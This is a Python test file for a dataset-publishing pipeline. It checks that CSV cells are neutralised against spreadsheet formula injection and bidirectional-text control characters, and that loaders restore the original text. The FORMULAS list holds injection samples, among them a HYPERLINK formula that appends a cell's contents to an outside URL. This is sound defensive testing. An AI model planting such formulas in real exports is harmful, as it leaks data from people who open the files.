"""Whatever a text holds, its cell runs nothing in a spreadsheet, and the loaders give it back."""

import csv
import re
import unicodedata
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.publishing import csv_files, loaders
from pipeline.publishing.content import Description
from pipeline.publishing.neutral import exact, exact_table, neutral, neutral_table, visible
from pipeline.schema.arrow import arrow_schema, to_arrow
from tests.builders import LINKED, SCHEMAS, row
from tests.publishing.conftest import Publish

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
PIECES = ["=", "+", "-", "@", "＝", "\t", "\r", "\n", " ", "'", '"', ",", "\\", "\\u", "202e"]
TEXTS = st.lists(st.sampled_from([*PIECES, *BIDI]) | st.characters(codec="utf-8"), min_size=1).map(
    "".join
)
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "\u202e=1+1",
]


def runs(cell: str) -> bool:
    """Whether some spreadsheet may take the cell for a formula, or drop its beginning (OWASP)."""
    first = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff\u00ad").lstrip()[:1]
    return cell[0] in "\t\r\n" or (first != "" and first in "=+-@＝＋－＠")


def active(cell: str) -> list[str]:
    """Characters that act on what stands around them."""
    categories = {"Cc", "Zl", "Zp"}
    return [
        c for c in cell if c in BIDI or (unicodedata.category(c) in categories and c not in "\t\n")
    ]


@given(TEXTS)
@example("'=1+1")
@example("\\u202e")
@example("\\\u202e")
@example("\\u005cu202e")
def test_any_text_comes_back_and_its_cell_is_harmless(text: str) -> None:
    cell = neutral(text)
    assert exact(cell) == text
    assert not runs(cell)
    assert not active(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert runs(text) or active(text[0])
    assert not runs(neutral(text))
    assert neutral(text).startswith(("'", "\\u"))


@pytest.mark.parametrize("text", ["Wang – “so”", "a = b", "it's", "C:\\users", "a\nb", "北京", "5"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


@given(st.lists(st.none() | TEXTS, min_size=1, max_size=3))
def test_a_table_is_neutralised_cell_by_cell(texts: list[str | None]) -> None:
    table = pa.table({"text": pa.array(texts, pa.string()), "n": pa.array([-1] * len(texts))})
    cells = neutral_table(table)
    assert cells["text"].to_pylist() == [t if t is None else neutral(t) for t in texts]
    assert cells["n"].to_pylist() == [-1] * len(texts)
    assert exact_table(cells).equals(table)


def test_the_loader_for_pandas_undoes_it(tmp_path: Path) -> None:
    loaders.write(tmp_path, Description.load())
    (tmp_path / "csv").mkdir()
    scope: dict[str, Any] = {"__file__": str(tmp_path / "load.py")}
    exec(compile((tmp_path / "load.py").read_text("utf-8"), "load.py", "exec"), scope)

    @settings(max_examples=40, deadline=None)
    @given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=1, max_size=4))
    @example(["''", "NA", "\\u202e", " =1"])
    def holds(texts: list[str]) -> None:
        rows = [row("entity_aliases", entity_id="e", alias=text) for text in texts]
        table = to_arrow(SCHEMAS["entity_aliases"], rows)
        csv_files.write(tmp_path / "csv" / "entity_aliases.csv", table)
        found = scope["read"]("entity_aliases", tmp_path)
        assert found["alias"].tolist() == table["alias"].to_pylist()

    holds()


def test_a_name_from_a_source_stays_a_name_on_every_page(publish_rows: Publish) -> None:
    name = "[x](https://e.org) <b>|`\u202e"
    folder = publish_rows(sources=[{**LINKED["sources"][0], "name": name}]).folder
    for path in folder.glob("*.md"):
        text = path.read_text("utf-8")
        assert "\u202e" not in text
        assert not re.search(r"(?<!\\)\[x|(?<!\\)<b>|x(?<!\\)\]", text)
    shown = r"\[x\](https://e.org) \<b>\|\`\\u202e"
    assert shown in (folder / "README.md").read_text("utf-8")
    assert shown in (folder / "LICENSE.md").read_text("utf-8")


def test_no_cell_of_any_csv_file_of_a_release_runs(publish_rows: Publish) -> None:
    people = [{"entity_id": f"e{i}", "name": t, "role": t} for i, t in enumerate(FORMULAS)]
    aliases = [{"entity_id": "e0", "alias": t} for t in FORMULAS]
    folder = publish_rows(
        entities=[*LINKED["entities"], *people],
        entity_aliases=aliases,
        sources=[{**LINKED["sources"][0], "name": "=1+1", "rights": "\u202eall"}],
        checks=[{"table": "quotes", "check": "unique", "observed": "@x"}],
    ).folder
    seen = 0
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            for cell in (cell for line in csv.reader(file) for cell in line if cell):
                seen += cell.startswith("'")
                assert re.fullmatch(r"-?[\d.e-]+", cell) or not runs(cell), f"{path}: {cell!r}"
                assert not active(cell), f"{path}: {cell!r}"
    assert seen > 2 * len(FORMULAS)
    schema = arrow_schema(SCHEMAS["entity_aliases"])
    table = csv_files.read(folder / "csv" / "entity_aliases.csv", schema)
    assert sorted(table["alias"].to_pylist()) == sorted(FORMULAS)


def test_visible_spells_only_what_acts_on_its_surroundings() -> None:
    assert visible("=a\u202eb'") == "=a\\u202eb'"
